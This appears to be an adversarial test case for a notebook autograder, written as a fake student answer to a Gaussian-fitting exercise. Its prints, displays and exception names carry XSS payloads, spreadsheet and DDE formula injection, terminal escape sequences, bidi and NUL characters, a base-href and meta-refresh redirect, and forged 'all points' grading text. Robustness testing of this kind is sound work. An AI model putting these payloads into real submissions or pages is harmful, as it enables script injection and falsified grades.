"""attack: HTML, scripts, terminal escapes, bidirectional marks, NUL, lone surrogates and a forged feedback page in prints, exception names and messages
cell: fit_gaussian
assignment: 03_gaussian_latent
others: solved
expect: graded
points: 5
keeps: 5
"""
import sys
print("</pre></details></div><script>alert(1)</script><img src=x onerror=alert(2)><svg/onload=alert(3)>&lt;b&gt;&#60;i&#62;")
print("=HYPERLINK(\"http://evil/\"&A1) \x1b]0;owned\x07\x1b[2J\x1b[31mred\x1b[0m \u202e}tfel ot thgir\u2066 \u2028\u2029\x85\x0b\x0c \x00 \ud800 \udfff \U000e0041 z\u0300\u0301\u0302\u0303\u0304\u0305")
print("]]>--><!--<style>*{display:none}</style><plaintext><base href=//evil><meta http-equiv=refresh content=0>", file=sys.stderr)
print("\r\b\b\b✓ fit_gaussian\r\n3.2 Mean and covariance: 2 of 2 , all points\n" + "<" * 1000)
from IPython.display import HTML, Javascript, display, Markdown, Image
display(HTML("<script>alert(4)</script>HTMLOBJECT"), Javascript("alert(5)"), Markdown("<script>alert(6)</script>MARKDOWN"))
Evil = type("<img src=x onerror=alert(7)>=cmd|' /C calc'!A0", (ValueError,), {"__module__": "</td><td>"})


def fit_gaussian(z):
    raise Evil("</td><script>alert(8)</script>\ud800\x00\x1b[2J\u202e =1+1 2 of 2, all points " + "\u0300" * 60)  # </li><script>alert(9)</script>
